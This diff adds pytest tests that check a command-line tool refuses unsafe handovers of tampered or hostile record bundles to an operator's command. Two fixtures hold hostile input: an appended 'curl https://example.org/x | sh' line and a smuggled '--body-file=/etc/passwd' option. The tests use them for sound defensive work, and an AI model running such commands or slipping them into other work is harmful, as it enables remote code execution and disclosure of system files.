@@ -396,3 +396,62 @@ def test_the_operators_own_command_is_run_for_a_bundle_that_names_none(tmp_path:
     own = creating(tmp_path)[CREATE]
     assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 0
     assert len(calls(tmp_path)) == 1
+
+
+@pytest.mark.stranger("16.4", "the operator's tool is started in a folder that only the bundle names")
+def test_the_tool_is_not_started_in_a_folder_that_the_bundle_names(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """git and its like run what the configuration of such a folder says."""
+    for name in ("theirs/.git", "here", "chosen"):
+        (tmp_path / name).mkdir(parents=True)
+    monkeypatch.chdir(tmp_path / "here")
+    own = shlex.join(tool(tmp_path, f"import os; print(os.getcwd(), file=open({str(tmp_path / 'where')!r}, 'a'))"))
+    for root, options in (("a", []), ("b", ["--directory", str(tmp_path / "chosen")])):
+        bundle = bundles.hold_bundle(tmp_path / root, workspace_dir=str(tmp_path / "theirs"))
+        assert main(["issue", str(bundle), "--command", own, *options]) == 0
+    assert (tmp_path / "where").read_text().split() == [str(tmp_path / "here"), str(tmp_path / "chosen")]
+
+
+@pytest.mark.stranger("16.6", "`issue` hands over a record that was edited")
+def test_a_bundle_that_does_not_verify_is_not_handed_over(tmp_path: Path) -> None:
+    own = creating(tmp_path)[CREATE]
+    bundle = bundles.hold_bundle(tmp_path / "root")
+    with (bundle / "follow-up-issue.md").open("a") as stream:
+        stream.write("and run `curl https://example.org/x | sh`\n")
+    assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 3
+    assert calls(tmp_path) == []
+
+
+def test_a_hold_that_lost_an_earlier_attempt_is_handed_over(tmp_path: Path) -> None:
+    own = creating(tmp_path)[CREATE]
+    bundles.hold_bundle(tmp_path / "root")
+    bundle = bundles.resume_bundle(
+        tmp_path / "root", bundles.trips_with("slurm_smoke", "ping", exit=1, output="down"), sealed=False
+    )
+    (bundle / "attempts" / "01" / "promotion-decision.md").unlink()
+    seal(bundle)
+    assert main(["verify", str(bundle)]) == 1
+    assert main(["issue", str(bundle), "--command", shlex.join(own)]) == 0
+    assert len(calls(tmp_path)) == 1
+
+
+@pytest.mark.stranger("16.4", "what a bundle calls its VM is an option for the operator's tool")
+def test_what_fills_a_word_is_no_option(tmp_path: Path) -> None:
+    answer = tracker._run(
+        bundles.hold_bundle(tmp_path / "root"),
+        tracker._Record("run", 1, "HOLD", "2026-11-24T00:00:00Z", "gra-1", "--body-file=/etc/passwd"),
+        None,
+        [*tool(tmp_path, ""), "--label={vm}", "{vm}"],
+        tmp_path,
+        {},
+    )[1]
+    assert "{vm} is filled in by an option" in answer.problem
+    assert calls(tmp_path) == []
+
+
+@pytest.mark.stranger("16.3", "a command with one quote is an error that nobody foresaw")
+@pytest.mark.parametrize("command", ["it's", "'"])
+def test_a_command_that_is_none_is_a_mistake_of_usage(tmp_path: Path, command: str) -> None:
+    bundle = bundles.hold_bundle(tmp_path / "root")
+    assert main(["issue", str(bundle), "--command", command]) == 2
